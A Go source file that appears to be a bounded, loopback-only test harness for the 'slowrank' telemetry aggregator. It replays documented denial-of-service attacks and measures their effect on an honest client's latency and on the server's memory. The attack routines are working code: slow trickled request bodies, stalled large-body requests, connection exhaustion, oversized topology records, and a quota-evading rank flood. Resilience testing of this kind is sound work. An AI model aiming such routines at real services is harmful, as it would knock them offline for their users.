// Command aggattack replays the attacks of issues 17 and 34 on a running
// `slowrank aggregate` (bound to loopback) and measures what an honest
// agent sees meanwhile: the latency of its requests and how many fail, and
// the aggregator's resident memory (VmRSS of --pid). Every attack is
// bounded in connections and time. See run.sh.
package main

import (
	"bufio"
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"time"

	"go.opentelemetry.io/collector/pdata/plog/plogotlp"

	"github.com/slowrank/slowrank/aggregate"
	"github.com/slowrank/slowrank/detector"
	"github.com/slowrank/slowrank/otel/wire"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:4317", "the aggregator (loopback only)")
	token := flag.String("token", "", "the aggregator's bearer token")
	pid := flag.Int("pid", 0, "the aggregator's process id (for its RSS)")
	attack := flag.String("attack", "none", "none, idle401, slowbodies, bigtopo, stalled, connfill or rankflood")
	conns := flag.Int("conns", 4100, "idle401: connections")
	jobs := flag.Int("jobs", 8, "bigtopo: jobs, one 0.8 MB topology record each")
	ranks := flag.Int("ranks", 1<<16, "rankflood: ranks, 1024 a request, each request claiming a new host name")
	flag.Parse()
	if host, _, err := net.SplitHostPort(*addr); err != nil || !net.ParseIP(host).IsLoopback() {
		fmt.Fprintln(os.Stderr, "aggattack: --addr must be a loopback host:port")
		os.Exit(2)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	switch *attack {
	case "none":
	case "idle401":
		idle401(ctx, &wg, *addr, *conns)
	case "slowbodies":
		slowBodies(ctx, &wg, *addr, *token, 16)
	case "bigtopo":
		bigTopologies(*addr, *token, *jobs)
	case "stalled":
		stalled(ctx, &wg, *addr, *token, 64)
	case "connfill":
		connFill(ctx, &wg, *addr, *conns)
	case "rankflood":
		rankFlood(*addr, *token, *ranks)
	default:
		fmt.Fprintln(os.Stderr, "aggattack: unknown --attack", *attack)
		os.Exit(2)
	}
	time.Sleep(time.Second)
	lat, failed := agent(*addr, *token, 20)
	fmt.Printf("attack=%s agent_requests=20 failed=%d p50=%s max=%s aggregator_rss=%s\n",
		*attack, failed, lat[len(lat)/2].Round(100*time.Microsecond), lat[len(lat)-1].Round(100*time.Microsecond), rss(*pid))
	cancel()
	wg.Wait()
}

// agent sends n authenticated requests of one step fact, each on a fresh
// connection as a restarted agent would, and returns their sorted
// latencies (a failure counts as its 5 s timeout).
func agent(addr, token string, n int) ([]time.Duration, int) {
	now := aggregate.MonoNow()
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	var lat []time.Duration
	failed := 0
	for i := range n {
		st := detector.Step{Kind: detector.KindStep, Job: "honest", Rank: 0, Step: int64(i), StartNS: now - 2e6, EndNS: now - 1e6,
			Phases: map[string]float64{detector.PhaseHost: 1}}
		body, _ := plogotlp.NewExportRequestFromLogs(wire.EncodeLogs("honest-host", nil, []detector.Step{st}, nil)).MarshalProto()
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/v1/logs", strings.NewReader(string(body)))
		req.Header.Set("Content-Type", "application/x-protobuf")
		req.Header.Set("Authorization", "Bearer "+token)
		t0 := time.Now()
		resp, err := client.Do(req)
		d := time.Since(t0)
		if err != nil || resp.StatusCode != http.StatusOK {
			failed++
		}
		if err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		lat = append(lat, d)
		time.Sleep(50 * time.Millisecond)
	}
	slices.Sort(lat)
	return lat, failed
}

// idle401 opens n connections from 127.0.0.2 that each send one request
// without a token, read the 401 and stay open.
func idle401(ctx context.Context, wg *sync.WaitGroup, addr string, n int) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}, Timeout: time.Second}
	opened := 0
	for range n {
		c, err := d.Dial("tcp", addr)
		if err != nil {
			continue
		}
		opened++
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.Close()
			// The server may drop the connection at once: no answer is then
			// what the attack records.
			_, _ = fmt.Fprintf(c, "POST /v1/logs HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\nContent-Length: 4\r\n\r\njunk")
			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
			if resp, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil {
				resp.Body.Close()
			}
			<-ctx.Done()
		}()
	}
	fmt.Printf("idle401: %d of %d connections opened\n", opened, n)
}

// slowBodies starts n requests, each from its own loopback address, that
// send their declared 100 kB body one byte every 200 ms.
func slowBodies(ctx context.Context, wg *sync.WaitGroup, addr, token string, n int) {
	for i := range n {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 1, byte(i+1))}, Timeout: time.Second}
		c, err := d.Dial("tcp", addr)
		if err != nil {
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.Close()
			// A connection the server closed fails the trickle below, which
			// is where the attack ends.
			_, _ = fmt.Fprintf(c, "POST /v1/logs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/x-protobuf\r\nContent-Length: 100000\r\n\r\n", token)
			tick := time.NewTicker(200 * time.Millisecond)
			defer tick.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-tick.C:
					if _, err := c.Write([]byte{0}); err != nil {
						return
					}
				}
			}
		}()
	}
	time.Sleep(500 * time.Millisecond) // every body has started
}

// bigTopologies sends, for each of n jobs, one topology record whose group
// lists 2^17 - 1 ranks (about 0.8 MB), then waits for the aggregator to
// push them.
func bigTopologies(addr, token string, n int) {
	members := make([]int, 1<<17-1)
	for i := range members {
		members[i] = i
	}
	client := &http.Client{Timeout: 30 * time.Second}
	for j := range n {
		topo := detector.Topology{Kind: detector.KindTopology, Job: fmt.Sprint("evil-", j), Version: 1,
			Ranks: []detector.RankInfo{{Rank: 0}}, Groups: []detector.Group{{ID: "w", Type: "world", Ranks: members}}}
		body, _ := plogotlp.NewExportRequestFromLogs(wire.EncodeLogs("evil", []detector.Topology{topo}, nil, nil)).MarshalProto()
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/v1/logs", strings.NewReader(string(body)))
		req.Header.Set("Content-Type", "application/x-protobuf")
		req.Header.Set("Authorization", "Bearer "+token)
		if resp, err := client.Do(req); err == nil {
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}
	time.Sleep(2 * time.Second) // the merged topologies reach the detector
}

// stalled starts n requests, each from its own loopback address, that
// declare a body just under 4 MiB and send none of it (issue 34: 64 of
// them reserved the whole 256 MiB body budget).
func stalled(ctx context.Context, wg *sync.WaitGroup, addr, token string, n int) {
	for i := range n {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 2, byte(i+1))}, Timeout: time.Second}
		c, err := d.Dial("tcp", addr)
		if err != nil {
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.Close()
			// Held open until the end whatever the server does with it: its
			// effect is measured on the legitimate clients.
			_, _ = fmt.Fprintf(c, "POST /v1/logs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/x-protobuf\r\nContent-Length: %d\r\n\r\n", token, 4<<20-1)
			<-ctx.Done()
		}()
	}
	time.Sleep(500 * time.Millisecond)
}

// connFill opens n silent connections, 64 from each of n/64 loopback
// addresses (issue 34: many loopback sources filled every slot).
func connFill(ctx context.Context, wg *sync.WaitGroup, addr string, n int) {
	opened := 0
	for i := range n {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 3+byte(i/64/250), byte(1+i/64%250))}, Timeout: time.Second}
		c, err := d.Dial("tcp", addr)
		if err != nil {
			continue
		}
		opened++
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.Close()
			<-ctx.Done()
		}()
	}
	fmt.Printf("connfill: %d of %d connections opened\n", opened, n)
}

// rankFlood sends steps for n ranks from one source, 1024 a request, each
// request claiming a new host name (issue 34: quotas were per claimed host
// name, so one client reached the global rank budget).
func rankFlood(addr, token string, n int) {
	// From a source of its own: the honest agent's is 127.0.0.1.
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 4, 1)}, Timeout: time.Second}
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{DialContext: d.DialContext}}
	now := aggregate.MonoNow()
	codes := map[int]int{}
	for h := 0; h*1024 < n; h++ {
		var steps []detector.Step
		for r := h * 1024; r < min((h+1)*1024, n); r++ {
			steps = append(steps, detector.Step{Kind: detector.KindStep, Job: "flood", Rank: r, Step: 1, StartNS: now - 2e6, EndNS: now - 1e6,
				Phases: map[string]float64{detector.PhaseHost: 1}})
		}
		body, _ := plogotlp.NewExportRequestFromLogs(wire.EncodeLogs(fmt.Sprint("evil-", h), nil, steps, nil)).MarshalProto()
		req, _ := http.NewRequest(http.MethodPost, "http://"+addr+"/v1/logs", strings.NewReader(string(body)))
		req.Header.Set("Content-Type", "application/x-protobuf")
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := client.Do(req)
		if err != nil {
			codes[0]++
			continue
		}
		codes[resp.StatusCode]++
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	fmt.Printf("rankflood: %d ranks in %d requests, answers %v\n", n, (n+1023)/1024, codes)
	time.Sleep(2 * time.Second) // the detector has taken them
}

// rss reads VmRSS of pid.
func rss(pid int) string {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return "?"
	}
	for _, line := range strings.Split(string(data), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			return strings.Join(strings.Fields(v), "")
		}
	}
	return "?"
}
